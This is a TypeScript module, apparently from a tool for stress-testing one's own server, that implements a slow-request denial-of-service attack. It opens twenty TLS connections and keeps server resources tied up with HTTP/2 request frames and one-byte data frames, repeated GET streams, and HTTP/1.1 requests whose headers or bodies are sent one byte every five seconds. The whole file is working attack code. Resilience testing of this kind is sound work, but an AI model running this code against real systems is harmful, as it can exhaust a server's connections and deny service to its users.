import { setTimeout as sleep } from "node:timers/promises";
import type { Attack, Tally, Target } from "../../attack.ts";
import { connectTls, frame, frameFlag, frameType, RawHttp2, requestFrame } from "../../clients/raw-http2.ts";

const connections = 20;
/** Pause between two bytes or two requests, in ms. */
const pauseMs = 5000;

/** Unfinished header fields, bodies and connections over HTTP/2 and HTTP/1.1, with a byte or a request now and then. */
export const tcpSlowRequests: Attack = {
  name: "slow headers and bodies, over TCP",
  unit: "pieces",
  async run(target, signal, tally) {
    await Promise.all(
      Array.from({ length: connections }, async (_, i) => {
        while (!signal.aborted) {
          await ways[i % ways.length]!(target, signal, tally);
          await sleep(100);
        }
      }),
    );
  },
};

type Way = (target: Target, signal: AbortSignal, tally: Tally) => Promise<void>;

const ways: readonly Way[] = [
  slowBodies,
  slowAsker,
  slowText("GET / HTTP/1.1\r\nhost: localhost\r\nx-slow: "),
  slowText("POST /v1/register HTTP/1.1\r\nhost: localhost\r\ncontent-length: 4000\r\n\r\n"),
];

async function slowBodies(target: Target, signal: AbortSignal, tally: Tally): Promise<void> {
  const client = await RawHttp2.open(target);
  const streams = Array.from({ length: 50 }, (_, i) => 2 * i + 1);
  await client.send(...streams.map((stream) => requestFrame(stream, "POST", "/v1/mailbox/x")));
  while (!client.isClosed && !signal.aborted) {
    await client.send(...streams.map((stream) => frame(frameType.data, 0, stream, Buffer.of(120))));
    tally(streams.length);
    await sleep(pauseMs, undefined, { signal }).catch(() => undefined);
  }
  client.close();
}

async function slowAsker(target: Target, signal: AbortSignal, tally: Tally): Promise<void> {
  const client = await RawHttp2.open(target);
  for (let stream = 1; !client.isClosed && !signal.aborted; stream += 2) {
    await client.send(requestFrame(stream, "GET", "/", frameFlag.endHeaders | frameFlag.endStream));
    tally();
    await sleep(pauseMs, undefined, { signal }).catch(() => undefined);
  }
  client.close();
}

function slowText(start: string): Way {
  return async (target, signal, tally) => {
    const socket = await connectTls(target, "http/1.1");
    socket.resume().write(start);
    while (!socket.destroyed && !signal.aborted) {
      socket.write("x");
      tally();
      await sleep(pauseMs, undefined, { signal }).catch(() => undefined);
    }
    socket.destroy();
  };
}
